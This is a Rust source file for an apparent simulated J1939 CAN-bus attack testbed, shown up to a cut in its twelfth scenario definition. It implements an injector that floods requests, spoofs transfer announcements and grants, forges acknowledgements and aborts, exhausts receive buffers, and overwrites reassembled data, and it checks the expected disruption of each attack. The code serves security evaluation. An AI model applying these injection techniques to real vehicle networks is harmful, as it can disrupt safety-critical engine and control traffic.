//! Attack catalog and frame injector.
//!
//! Each scenario is a declarative injection program: a trigger condition
//! over observed bus frames (or a timer), the frames to craft, and the
//! observable outcome the run is expected to produce. The injector runs as
//! an ordinary bus node that reacts to a frame one frame-time after it ends;
//! it never preempts a frame already on the wire, and it never alters
//! priorities, so injected traffic arbitrates exactly like the traffic it
//! imitates.

use std::cell::RefCell;
use std::rc::Rc;

use serde::{Deserialize, Serialize};

use crate::bus::{BusEvent, Node, Outbox};
use crate::frame::{CanFrame, FrameId, Pgn, GLOBAL_ADDR, PGN_REQUEST, PGN_TP_CM, PGN_TP_DT};
use crate::preset::{ATTACKER_SA, ENGINE_FLUID_PGN, ENGINE_SA, EXCHANGE_PGN, MCS_SA};
use crate::tp::{decode_tpcm, encode_tpcm_unchecked, packets_for, TpCm, TpDt};

/// Verdict a scenario is expected to reproduce.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Impact {
    Impact,
    NoImpact,
}

/// Run phases in milliseconds: quiet warmup, injection window, recovery.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Phases {
    pub warmup_ms: u64,
    pub attack_ms: u64,
    pub recovery_ms: u64,
}

impl Phases {
    pub fn attack_start_us(&self) -> u64 {
        self.warmup_ms * 1000
    }
    pub fn attack_end_us(&self) -> u64 {
        (self.warmup_ms + self.attack_ms) * 1000
    }
    pub fn horizon_us(&self) -> u64 {
        (self.warmup_ms + self.attack_ms + self.recovery_ms) * 1000
    }
}

/// Altered announcement geometry for one spoofed-announce case.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct RtsCase {
    pub total_bytes: u16,
    pub total_packets: u8,
}

/// The injection program of one scenario.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum AttackProgram {
    /// Burst request messages at the node owning `pgn` after every second
    /// observed emission of it.
    RequestOverload {
        target_sa: u8,
        pgn: Pgn,
        burst: u16,
        spacing_us: u64,
    },
    /// Forge acknowledgement replies to every nth observed request, cycling
    /// through the given codes.
    ForgeAcks { codes: Vec<u8>, every_nth: u32 },
    /// Re-announce each observed transfer start with altered geometry,
    /// one case per observation.
    RtsSpoof { pair: (u8, u8), cases: Vec<RtsCase> },
    /// Pin open transfers with zero-packet clear-to-sends: one immediately
    /// after every observed grant, plus a periodic stream.
    SessionHold { pair: (u8, u8), period_us: u64 },
    /// Keep the target's transfer slot busy by announcing (and endlessly
    /// re-announcing) an inbound transfer that never sends data.
    OccupyResponder {
        target: u8,
        announce_bytes: u16,
        refresh_us: u64,
    },
    /// Replace the first observed grant with an altered one (skip-ahead or
    /// overrun).
    CtsOverride {
        originator: u8,
        responder: u8,
        packets_to_send: u8,
        next_packet: u8,
    },
    /// Periodic clear-to-sends toward a node with no open transfer.
    StrayCts {
        originator: u8,
        responder: u8,
        period_us: u64,
        pgns: Vec<Pgn>,
    },
    /// Forge the end-of-message acknowledgement right after each observed
    /// transfer start.
    ForgeEndOfMsgAck { originator: u8, responder: u8 },
    /// Forge a connection abort right after each observed transfer start.
    ForgeAbort {
        originator: u8,
        responder: u8,
        reason: u8,
    },
    /// Broadcast huge transfer announcements to exhaust receive buffers.
    BamFlood {
        announce_bytes: u16,
        initial_burst: u8,
        period_us: u64,
    },
    /// Directed variant of the buffer-exhaustion flood.
    RtsFlood {
        target: u8,
        announce_bytes: u16,
        initial_burst: u8,
        period_us: u64,
    },
    /// Inject data packets ahead of the real ones so the receiver stores the
    /// forged payload first.
    DtOverwrite {
        originator: u8,
        responder: u8,
        replace_last_two: bool,
    },
    /// Append extra data packets after the real last one.
    DtAppend {
        originator: u8,
        responder: u8,
        extra_seqs: Vec<u8>,
    },
}

/// Machine-checkable assertion over a finished run's log.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Observable {
    /// Emissions of `pgn` from `sa` keep their nominal cadence during warmup
    /// and after recovery margins.
    SteadyCadence {
        pgn: Pgn,
        sa: u8,
        phase: CheckPhase,
        period_ms: u64,
        tol_ms: f64,
        skip_head_ms: u64,
        skip_tail_ms: u64,
    },
    /// Emission intervals during the attack stay inside a band and actually
    /// reach both extremes.
    AttackIntervalSpread {
        pgn: Pgn,
        sa: u8,
        skip_head_ms: u64,
        min_ms: u64,
        max_ms: u64,
        need_min_below_ms: u64,
        need_max_above_ms: u64,
    },
    /// No legitimate matching frame inside the attack window (after an onset
    /// margin).
    AbsentDuringAttack { matcher: FrameMatcher, onset_ms: u64 },
    /// A legitimate matching frame appears within a bound after the attack.
    ResumesAfterAttack { matcher: FrameMatcher, within_ms: u64 },
    /// Table of altered-announcement cases holds field-exact.
    RtsSpoofCases { pair: (u8, u8) },
    /// The attacked transfer shows the skip-and-stall trace: grant, altered
    /// grant, exactly one data packet (the last in plan), a zero-packet
    /// hold asking for the next sequence, and no completion.
    StallTrace {
        originator: u8,
        responder: u8,
        injected_packets: u8,
        injected_next: u8,
    },
    /// Reassembled transfer equals the per-case forged byte sequence and the
    /// completion message still reports the full transfer.
    OverwriteOutcome {
        originator: u8,
        responder: u8,
        replace_last_two: bool,
    },
    /// The transfer hit by the injected frame ends aborted, not complete.
    AttackedSessionAborted { originator: u8, responder: u8 },
    /// Legitimate traffic is identical to a baseline run with the same seed.
    EquivalentToBaseline,
    /// Bus utilization over the attack window stays under the cap.
    UtilizationCap { max: f64 },
    /// The injector used at most this many frames.
    InjectedAtMost { max: u64 },
}

/// Phase selector for cadence checks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum CheckPhase {
    Warmup,
    Recovery,
}

/// Frame predicate used by absence/resumption checks.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct FrameMatcher {
    #[serde(default)]
    pub sa: Option<u8>,
    #[serde(default)]
    pub da: Option<u8>,
    #[serde(default)]
    pub pgn: Option<Pgn>,
    /// Restrict to one connection-management control byte.
    #[serde(default)]
    pub tp_control: Option<u8>,
    /// Match any transport-protocol frame (management or data).
    #[serde(default)]
    pub any_tp: bool,
    /// Match frames between this pair in either direction.
    #[serde(default)]
    pub between: Option<(u8, u8)>,
}

impl FrameMatcher {
    pub fn matches(&self, frame: &CanFrame) -> bool {
        let id = frame.id;
        if let Some(sa) = self.sa {
            if id.sa != sa {
                return false;
            }
        }
        if let Some(da) = self.da {
            if id.ps != da || id.pf >= 240 {
                return false;
            }
        }
        if let Some(pgn) = self.pgn {
            if frame.pgn() != pgn {
                return false;
            }
        }
        if let Some((a, b)) = self.between {
            let fwd = id.sa == a && id.pf < 240 && id.ps == b;
            let rev = id.sa == b && id.pf < 240 && id.ps == a;
            if !(fwd || rev) {
                return false;
            }
        }
        let is_cm = frame.pgn() == Pgn(PGN_TP_CM);
        let is_dt = frame.pgn() == Pgn(PGN_TP_DT);
        if let Some(ctrl) = self.tp_control {
            if !is_cm || frame.data.first() != Some(&ctrl) {
                return false;
            }
        }
        if self.any_tp && !(is_cm || is_dt) {
            return false;
        }
        true
    }
}

/// One of the fourteen attack definitions.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ScenarioSpec {
    pub id: u8,
    pub name: String,
    pub summary: String,
    pub program: AttackProgram,
    pub phases: Phases,
    pub expected: Impact,
    pub observables: Vec<Observable>,
}

/// Counters the injector exposes to the runner.
#[derive(Debug, Default, Clone)]
pub struct AttackerStats {
    pub injected: u64,
    pub trigger_fired: bool,
    pub first_trigger_us: Option<u64>,
}

pub type SharedStats = Rc<RefCell<AttackerStats>>;

/// The injector bus node.
pub struct Attacker {
    program: AttackProgram,
    window: (u64, u64),
    sa: u8,
    tp_priority: u8,
    stats: SharedStats,
    // program state
    observations: u64,
    next_periodic: Option<u64>,
    started: bool,
    done_once: bool,
    cases_done: usize,
    hold_streams: Vec<(u8, u8, Pgn)>,
    stray_cursor: usize,
    session_open: bool,
    session_since: u64,
}

impl Attacker {
    pub fn new(program: AttackProgram, window: (u64, u64), stats: SharedStats) -> Self {
        Self {
            program,
            window,
            sa: ATTACKER_SA,
            tp_priority: 7,
            stats,
            observations: 0,
            next_periodic: None,
            started: false,
            done_once: false,
            cases_done: 0,
            hold_streams: Vec::new(),
            stray_cursor: 0,
            session_open: false,
            session_since: 0,
        }
    }

    fn in_window(&self, t: u64) -> bool {
        t >= self.window.0 && t < self.window.1
    }

    fn mark_trigger(&mut self, now: u64) {
        let mut s = self.stats.borrow_mut();
        s.trigger_fired = true;
        s.first_trigger_us.get_or_insert(now);
    }

    fn inject(&mut self, out: &mut Outbox, ready_at: u64, frame: CanFrame) {
        if ready_at >= self.window.1 {
            return;
        }
        self.stats.borrow_mut().injected += 1;
        out.send(ready_at, frame);
    }

    fn tpcm(&self, cm: &TpCm, spoof_sa: u8, da: u8) -> CanFrame {
        let id = FrameId::new(self.tp_priority, 0, 0, 0xEC, da, spoof_sa);
        CanFrame::new(id, encode_tpcm_unchecked(cm).to_vec()).expect("8 bytes")
    }

    fn tpdt(&self, dt: &TpDt, spoof_sa: u8, da: u8) -> CanFrame {
        let id = FrameId::new(self.tp_priority, 0, 0, 0xEB, da, spoof_sa);
        CanFrame::new(id, dt.encode().to_vec()).expect("8 bytes")
    }

    fn request(&self, pgn: Pgn, da: u8) -> CanFrame {
        let id = FrameId::new(6, 0, 0, 0xEA, da, self.sa);
        let payload = vec![
            (pgn.0 & 0xFF) as u8,
            ((pgn.0 >> 8) & 0xFF) as u8,
            ((pgn.0 >> 16) & 0xFF) as u8,
            0xFF,
            0xFF,
            0xFF,
            0xFF,
            0xFF,
        ];
        CanFrame::new(id, payload).expect("8 bytes")
    }

    fn ack(&self, code: u8, requester: u8, pgn: Pgn, spoof_sa: u8) -> CanFrame {
        let id = FrameId::new(6, 0, 0, 0xE8, GLOBAL_ADDR, spoof_sa);
        let payload = vec![
            code,
            0xFF,
            0xFF,
            0xFF,
            requester,
            (pgn.0 & 0xFF) as u8,
            ((pgn.0 >> 8) & 0xFF) as u8,
            ((pgn.0 >> 16) & 0xFF) as u8,
        ];
        CanFrame::new(id, payload).expect("8 bytes")
    }
}

const SPOOF_DT_PAYLOAD: [u8; 7] = [0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x00];

impl Node for Attacker {
    fn name(&self) -> &str {
        "attacker"
    }

    fn next_wakeup(&self) -> Option<u64> {
        if !self.started {
            return Some(self.window.0);
        }
        self.next_periodic.filter(|&t| t < self.window.1)
    }

    fn on_wakeup(&mut self, now: u64, out: &mut Outbox) {
        if !self.started && now >= self.window.0 {
            self.started = true;
            match &self.program {
                AttackProgram::OccupyResponder {
                    target,
                    announce_bytes,
                    refresh_us,
                } => {
                    let (target, bytes, refresh) = (*target, *announce_bytes, *refresh_us);
                    self.mark_trigger(now);
                    let cm = TpCm::Rts {
                        total_bytes: bytes,
                        total_packets: packets_for(bytes),
                        max_per_cts: 255,
                        pgn: EXCHANGE_PGN,
                    };
                    let frame = self.tpcm(&cm, self.sa, target);
                    self.inject(out, now, frame);
                    self.next_periodic = Some(now + refresh);
                }
                AttackProgram::BamFlood {
                    announce_bytes,
                    initial_burst,
                    period_us,
                } => {
                    let (bytes, burst, period) = (*announce_bytes, *initial_burst, *period_us);
                    self.mark_trigger(now);
                    let cm = TpCm::Bam {
                        total_bytes: bytes,
                        total_packets: packets_for(bytes),
                        pgn: EXCHANGE_PGN,
                    };
                    for _ in 0..burst {
                        let frame = self.tpcm(&cm, self.sa, GLOBAL_ADDR);
                        self.inject(out, now, frame);
                    }
                    self.next_periodic = Some(now + period);
                }
                AttackProgram::RtsFlood {
                    target,
                    announce_bytes,
                    initial_burst,
                    period_us,
                } => {
                    let (target, bytes, burst, period) =
                        (*target, *announce_bytes, *initial_burst, *period_us);
                    self.mark_trigger(now);
                    let cm = TpCm::Rts {
                        total_bytes: bytes,
                        total_packets: packets_for(bytes),
                        max_per_cts: 255,
                        pgn: EXCHANGE_PGN,
                    };
                    for _ in 0..burst {
                        let frame = self.tpcm(&cm, self.sa, target);
                        self.inject(out, now, frame);
                    }
                    self.next_periodic = Some(now + period);
                }
                AttackProgram::StrayCts { period_us, .. } => {
                    self.next_periodic = Some(now + *period_us);
                }
                AttackProgram::SessionHold { .. } => {
                    // Periodic stream starts once a grant has been captured.
                }
                _ => {}
            }
            return;
        }
        let Some(t) = self.next_periodic else {
            return;
        };
        if now < t || !self.in_window(now) {
            return;
        }
        match &self.program {
            AttackProgram::OccupyResponder {
                target,
                announce_bytes,
                refresh_us,
            } => {
                let (target, bytes, refresh) = (*target, *announce_bytes, *refresh_us);
                let cm = TpCm::Rts {
                    total_bytes: bytes,
                    total_packets: packets_for(bytes),
                    max_per_cts: 255,
                    pgn: EXCHANGE_PGN,
                };
                let frame = self.tpcm(&cm, self.sa, target);
                self.inject(out, now, frame);
                self.next_periodic = Some(now + refresh);
            }
            AttackProgram::BamFlood {
                announce_bytes,
                period_us,
                ..
            } => {
                let (bytes, period) = (*announce_bytes, *period_us);
                let cm = TpCm::Bam {
                    total_bytes: bytes,
                    total_packets: packets_for(bytes),
                    pgn: EXCHANGE_PGN,
                };
                let frame = self.tpcm(&cm, self.sa, GLOBAL_ADDR);
                self.inject(out, now, frame);
                self.next_periodic = Some(now + period);
            }
            AttackProgram::RtsFlood {
                target,
                announce_bytes,
                period_us,
                ..
            } => {
                let (target, bytes, period) = (*target, *announce_bytes, *period_us);
                let cm = TpCm::Rts {
                    total_bytes: bytes,
                    total_packets: packets_for(bytes),
                    max_per_cts: 255,
                    pgn: EXCHANGE_PGN,
                };
                let frame = self.tpcm(&cm, self.sa, target);
                self.inject(out, now, frame);
                self.next_periodic = Some(now + period);
            }
            AttackProgram::SessionHold { period_us, .. } => {
                let period = *period_us;
                let streams = self.hold_streams.clone();
                for (grantor, orig, pgn) in streams {
                    let cm = TpCm::Cts {
                        packets_to_send: 0,
                        next_packet: 1,
                        pgn,
                    };
                    let frame = self.tpcm(&cm, grantor, orig);
                    self.inject(out, now, frame);
                }
                self.next_periodic = Some(now + period);
            }
            AttackProgram::StrayCts {
                originator,
                responder,
                period_us,
                pgns,
            } => {
                let (orig, resp, period) = (*originator, *responder, *period_us);
                let pgns = pgns.clone();
                // Session-state gate: only inject while the pair has no open
                // transfer the stray grant could touch.
                let open = self.session_open && now.saturating_sub(self.session_since) < 3_000_000;
                if !open && !pgns.is_empty() {
                    self.mark_trigger(now);
                    let pgn = pgns[self.stray_cursor % pgns.len()];
                    self.stray_cursor += 1;
                    let cm = TpCm::Cts {
                        packets_to_send: 3,
                        next_packet: 1,
                        pgn,
                    };
                    let frame = self.tpcm(&cm, resp, orig);
                    self.inject(out, now, frame);
                }
                self.next_periodic = Some(now + period);
            }
            _ => {}
        }
    }

    fn on_frame(&mut self, now: u64, ev: &BusEvent, out: &mut Outbox) {
        let frame = &ev.frame;
        let pgn = frame.pgn();
        let is_cm = pgn == Pgn(PGN_TP_CM);
        let cm = if is_cm { decode_tpcm(&frame.data).ok() } else { None };

        // Passive session observer used by the stray-grant gate.
        if let AttackProgram::StrayCts {
            originator,
            responder,
            ..
        } = &self.program
        {
            let (o, r) = (*originator, *responder);
            if let Some(cm) = &cm {
                let fwd = frame.id.sa == o && frame.id.ps == r;
                let rev = frame.id.sa == r && frame.id.ps == o;
                match cm {
                    TpCm::Rts { .. } if fwd => {
                        self.session_open = true;
                        self.session_since = now;
                    }
                    TpCm::EndOfMsgAck { .. } if rev => self.session_open = false,
                    TpCm::ConnAbort { .. } if fwd || rev => self.session_open = false,
                    _ => {}
                }
            }
        }

        if !self.in_window(now) {
            return;
        }

        match &self.program {
            AttackProgram::RequestOverload {
                target_sa,
                pgn: target_pgn,
                burst,
                spacing_us,
            } => {
                if pgn == *target_pgn && frame.id.sa == *target_sa {
                    self.observations += 1;
                    if self.observations % 2 == 1 {
                        self.mark_trigger(now);
                        let (target_sa, target_pgn, burst, spacing) =
                            (*target_sa, *target_pgn, *burst, *spacing_us);
                        for i in 0..burst {
                            let frame = self.request(target_pgn, target_sa);
                            self.inject(out, now + i as u64 * spacing, frame);
                        }
                    }
                }
            }
            AttackProgram::ForgeAcks { codes, every_nth } => {
                if pgn == Pgn(PGN_REQUEST) && frame.data.len() >= 3 {
                    self.observations += 1;
                    if self.observations % (*every_nth as u64).max(1) == 0 && !codes.is_empty() {
                        self.mark_trigger(now);
                        let code = codes[(self.stray_cursor) % codes.len()];
                        self.stray_cursor += 1;
                        let requested = Pgn(frame.data[0] as u32
                            | ((frame.data[1] as u32) << 8)
                            | ((frame.data[2] as u32) << 16));
                        let frame = self.ack(code, frame.id.sa, requested, frame.id.ps);
                        self.inject(out, now, frame);
                    }
                }
            }
            AttackProgram::RtsSpoof { pair, cases } => {
                let (a, b) = *pair;
                let between = (frame.id.sa == a && frame.id.ps == b)
                    || (frame.id.sa == b && frame.id.ps == a);
                if let Some(TpCm::Rts { pgn, .. }) = cm {
                    if between && self.cases_done < cases.len() {
                        self.mark_trigger(now);
                        let case = cases[self.cases_done];
                        self.cases_done += 1;
                        let spoofed = TpCm::Rts {
                            total_bytes: case.total_bytes,
                            total_packets: case.total_packets,
                            max_per_cts: 255,
                            pgn,
                        };
                        let frame = self.tpcm(&spoofed, frame.id.sa, frame.id.ps);
                        self.inject(out, now, frame);
                    }
                }
            }
            AttackProgram::SessionHold { pair, period_us } => {
                let (a, b) = *pair;
                let between = (frame.id.sa == a && frame.id.ps == b)
                    || (frame.id.sa == b && frame.id.ps == a);
                if let Some(TpCm::Cts { pgn, .. }) = cm {
                    if between {
                        self.mark_trigger(now);
                        let stream = (frame.id.sa, frame.id.ps, pgn);
                        if !self.hold_streams.contains(&stream) {
                            self.hold_streams.push(stream);
                        }
                        let cm = TpCm::Cts {
                            packets_to_send: 0,
                            next_packet: 1,
                            pgn,
                        };
                        let holdf = self.tpcm(&cm, frame.id.sa, frame.id.ps);
                        self.inject(out, now, holdf);
                        if self.next_periodic.is_none() {
                            self.next_periodic = Some(now + *period_us);
                        }
                    }
                }
            }
            AttackProgram::CtsOverride {
                originator,
                responder,
                packets_to_send,
                next_packet,
            } => {
                if let Some(TpCm::Cts {
                    packets_to_send: n,
                    pgn,
                    ..
                }) = cm
                {
                    if frame.id.sa == *responder
                        && frame.id.ps == *originator
                        && n > 0
                        && !self.done_once
                    {
                        self.mark_trigger(now);
                        self.done_once = true;
                        let cm = TpCm::Cts {
                            packets_to_send: *packets_to_send,
                            next_packet: *next_packet,
                            pgn,
                        };
                        let frame = self.tpcm(&cm, *responder, *originator);
                        self.inject(out, now, frame);
                    }
                }
            }
            AttackProgram::ForgeEndOfMsgAck {
                originator,
                responder,
            } => {
                if let Some(TpCm::Rts {
                    total_bytes,
                    total_packets,
                    pgn,
                    ..
                }) = cm
                {
                    if frame.id.sa == *originator && frame.id.ps == *responder {
                        self.mark_trigger(now);
                        let forged = TpCm::EndOfMsgAck {
                            total_bytes,
                            total_packets,
                            pgn,
                        };
                        let frame = self.tpcm(&forged, *responder, *originator);
                        self.inject(out, now, frame);
                    }
                }
            }
            AttackProgram::ForgeAbort {
                originator,
                responder,
                reason,
            } => {
                if let Some(TpCm::Rts { pgn, .. }) = cm {
                    if frame.id.sa == *originator && frame.id.ps == *responder {
                        self.mark_trigger(now);
                        let forged = TpCm::ConnAbort {
                            reason: *reason,
                            pgn,
                        };
                        let frame = self.tpcm(&forged, *responder, *originator);
                        self.inject(out, now, frame);
                    }
                }
            }
            AttackProgram::DtOverwrite {
                originator,
                responder,
                replace_last_two,
            } => {
                if pgn == Pgn(PGN_TP_DT)
                    && frame.id.sa == *originator
                    && frame.id.ps == *responder
                    && !self.done_once
                {
                    if let Ok(dt) = TpDt::decode(&frame.data) {
                        let trigger_seq = if *replace_last_two { 1 } else { 2 };
                        if dt.sequence == trigger_seq {
                            self.mark_trigger(now);
                            self.done_once = true;
                            let seqs: &[u8] = if *replace_last_two { &[2, 3] } else { &[3] };
                            for (i, &seq) in seqs.iter().enumerate() {
                                let fake = TpDt {
                                    sequence: seq,
                                    payload: SPOOF_DT_PAYLOAD,
                                };
                                let frame = self.tpdt(&fake, *originator, *responder);
                                self.inject(out, now + i as u64 * 600, frame);
                            }
                        }
                    }
                }
            }
            AttackProgram::DtAppend {
                originator,
                responder,
                extra_seqs,
            } => {
                if pgn == Pgn(PGN_TP_DT)
                    && frame.id.sa == *originator
                    && frame.id.ps == *responder
                    && !self.done_once
                {
                    if let Ok(dt) = TpDt::decode(&frame.data) {
                        if dt.sequence == 3 {
                            self.mark_trigger(now);
                            self.done_once = true;
                            let seqs = extra_seqs.clone();
                            for (i, seq) in seqs.into_iter().enumerate() {
                                let fake = TpDt {
                                    sequence: seq,
                                    payload: SPOOF_DT_PAYLOAD,
                                };
                                let frame = self.tpdt(&fake, *originator, *responder);
                                self.inject(out, now + i as u64 * 600, frame);
                            }
                        }
                    }
                }
            }
            _ => {}
        }
    }
}

fn exchange_matcher_ack(a: u8, b: u8) -> FrameMatcher {
    FrameMatcher {
        tp_control: Some(crate::tp::CTRL_END_OF_MSG_ACK),
        between: Some((a, b)),
        ..FrameMatcher::default()
    }
}

/// The fourteen attack definitions in their canonical order.
pub fn catalog() -> Vec<ScenarioSpec> {
    let util_cap = Observable::UtilizationCap { max: 0.50 };
    vec![
        ScenarioSpec {
            id: 1,
            name: "Request overload".into(),
            summary: "Flood the engine node with request messages so its periodic broadcast slips"
                .into(),
            program: AttackProgram::RequestOverload {
                target_sa: ENGINE_SA,
                pgn: ENGINE_FLUID_PGN,
                burst: 30,
                spacing_us: 5_000,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 60_000,
                recovery_ms: 10_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::SteadyCadence {
                    pgn: ENGINE_FLUID_PGN,
                    sa: ENGINE_SA,
                    phase: CheckPhase::Warmup,
                    period_ms: 500,
                    tol_ms: 1.0,
                    skip_head_ms: 2_000,
                    skip_tail_ms: 500,
                },
                Observable::AttackIntervalSpread {
                    pgn: ENGINE_FLUID_PGN,
                    sa: ENGINE_SA,
                    skip_head_ms: 2_000,
                    min_ms: 270,
                    max_ms: 720,
                    need_min_below_ms: 350,
                    need_max_above_ms: 650,
                },
                Observable::SteadyCadence {
                    pgn: ENGINE_FLUID_PGN,
                    sa: ENGINE_SA,
                    phase: CheckPhase::Recovery,
                    period_ms: 500,
                    tol_ms: 1.0,
                    skip_head_ms: 2_500,
                    skip_tail_ms: 500,
                },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 2,
            name: "Malicious acknowledgment".into(),
            summary: "Forge negative acknowledgements for observed requests; the testbed ignores \
                      the acknowledgement group"
                .into(),
            program: AttackProgram::ForgeAcks {
                codes: vec![1, 2, 3],
                every_nth: 4,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 20_000,
                recovery_ms: 5_000,
            },
            expected: Impact::NoImpact,
            observables: vec![Observable::EquivalentToBaseline, util_cap.clone()],
        },
        ScenarioSpec {
            id: 3,
            name: "Malicious transfer announcement".into(),
            summary: "Re-announce each observed transfer with altered byte and packet counts"
                .into(),
            program: AttackProgram::RtsSpoof {
                pair: (ENGINE_SA, MCS_SA),
                cases: vec![
                    RtsCase {
                        total_bytes: 18,
                        total_packets: 2,
                    },
                    RtsCase {
                        total_bytes: 18,
                        total_packets: 4,
                    },
                    RtsCase {
                        total_bytes: 10,
                        total_packets: 2,
                    },
                    RtsCase {
                        total_bytes: 22,
                        total_packets: 4,
                    },
                ],
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 250_000,
                recovery_ms: 10_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::RtsSpoofCases {
                    pair: (ENGINE_SA, MCS_SA),
                },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 4,
            name: "Connection exhaustion".into(),
            summary: "Pin every transfer between the exchange peers open with zero-packet \
                      clear-to-sends"
                .into(),
            program: AttackProgram::SessionHold {
                pair: (ENGINE_SA, MCS_SA),
                period_us: 50_000,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 70_000,
                recovery_ms: 130_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::AbsentDuringAttack {
                    matcher: exchange_matcher_ack(ENGINE_SA, MCS_SA),
                    onset_ms: 0,
                },
                Observable::ResumesAfterAttack {
                    matcher: exchange_matcher_ack(ENGINE_SA, MCS_SA),
                    within_ms: 120_000,
                },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 5,
            name: "Broadcast-announce block".into(),
            summary: "Seize the engine node's transfer slot so its periodic broadcast train \
                      cannot start"
                .into(),
            program: AttackProgram::OccupyResponder {
                target: ENGINE_SA,
                announce_bytes: 18,
                refresh_us: 600_000,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 70_000,
                recovery_ms: 10_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::AbsentDuringAttack {
                    matcher: FrameMatcher {
                        sa: Some(ENGINE_SA),
                        tp_control: Some(crate::tp::CTRL_BAM),
                        ..FrameMatcher::default()
                    },
                    onset_ms: 2_000,
                },
                Observable::ResumesAfterAttack {
                    matcher: FrameMatcher {
                        sa: Some(ENGINE_SA),
                        tp_control: Some(crate::tp::CTRL_BAM),
                        ..FrameMatcher::default()
                    },
                    within_ms: 5_000,
                },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 6,
            name: "Skip-ahead clear-to-send leak".into(),
            summary: "Replace the grant with one starting past the announced packet range".into(),
            program: AttackProgram::CtsOverride {
                originator: ENGINE_SA,
                responder: MCS_SA,
                packets_to_send: 3,
                next_packet: 5,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 70_000,
                recovery_ms: 10_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::StallTrace {
                    originator: ENGINE_SA,
                    responder: MCS_SA,
                    injected_packets: 3,
                    injected_next: 5,
                },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 7,
            name: "Overrun clear-to-send leak".into(),
            summary: "Replace the grant with one asking for far more packets than announced"
                .into(),
            program: AttackProgram::CtsOverride {
                originator: ENGINE_SA,
                responder: MCS_SA,
                packets_to_send: 10,
                next_packet: 1,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 70_000,
                recovery_ms: 10_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::StallTrace {
                    originator: ENGINE_SA,
                    responder: MCS_SA,
                    injected_packets: 10,
                    injected_next: 1,
                },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 8,
            name: "Stray clear-to-send".into(),
            summary: "Send grants toward a node that never announced a transfer".into(),
            program: AttackProgram::StrayCts {
                originator: ENGINE_SA,
                responder: MCS_SA,
                period_us: 1_000_000,
                pgns: vec![EXCHANGE_PGN, Pgn(65_100)],
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 30_000,
                recovery_ms: 5_000,
            },
            expected: Impact::NoImpact,
            observables: vec![Observable::EquivalentToBaseline, util_cap.clone()],
        },
        ScenarioSpec {
            id: 9,
            name: "Forged completion".into(),
            summary: "Answer each observed transfer announcement with a forged end-of-message \
                      acknowledgement"
                .into(),
            program: AttackProgram::ForgeEndOfMsgAck {
                originator: ENGINE_SA,
                responder: MCS_SA,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 70_000,
                recovery_ms: 130_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::AbsentDuringAttack {
                    matcher: FrameMatcher {
                        sa: Some(MCS_SA),
                        da: Some(ENGINE_SA),
                        tp_control: Some(crate::tp::CTRL_END_OF_MSG_ACK),
                        ..FrameMatcher::default()
                    },
                    onset_ms: 0,
                },
                Observable::ResumesAfterAttack {
                    matcher: exchange_matcher_ack(ENGINE_SA, MCS_SA),
                    within_ms: 120_000,
                },
                Observable::InjectedAtMost { max: 2 },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 10,
            name: "Forced abort".into(),
            summary: "Answer each observed transfer announcement with a forged connection abort"
                .into(),
            program: AttackProgram::ForgeAbort {
                originator: ENGINE_SA,
                responder: MCS_SA,
                reason: 1,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 70_000,
                recovery_ms: 130_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::AbsentDuringAttack {
                    matcher: exchange_matcher_ack(ENGINE_SA, MCS_SA),
                    onset_ms: 0,
                },
                Observable::AttackedSessionAborted {
                    originator: ENGINE_SA,
                    responder: MCS_SA,
                },
                Observable::ResumesAfterAttack {
                    matcher: exchange_matcher_ack(ENGINE_SA, MCS_SA),
                    within_ms: 120_000,
                },
                Observable::InjectedAtMost { max: 2 },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 11,
            name: "Broadcast-announce exhaustion".into(),
            summary: "Announce maximum-size broadcast transfers until the target's buffers run \
                      out"
                .into(),
            program: AttackProgram::BamFlood {
                announce_bytes: 1785,
                initial_burst: 3,
                period_us: 300_000,
            },
            phases: Phases {
                warmup_ms: 10_000,
                attack_ms: 30_000,
                recovery_ms: 15_000,
            },
            expected: Impact::Impact,
            observables: vec![
                Observable::AbsentDuringAttack {
                    matcher: FrameMatcher {
                        sa: Some(MCS_SA),
                        any_tp: true,
                        ..FrameMatcher::default()
                    },
                    onset_ms: 500,
                },
                Observable::ResumesAfterAttack {
                    matcher: FrameMatcher {
                        sa: Some(MCS_SA),
                        any_tp: true,
                        ..FrameMatcher::default()
                    },
                    within_ms: 6_600,
                },
                util_cap.clone(),
            ],
        },
        ScenarioSpec {
            id: 12,
            name: "Directed-announce exhaustion".into(),
            summary: "Announce maximum-size directed transfers until the target's buffers run out"
                .into(),
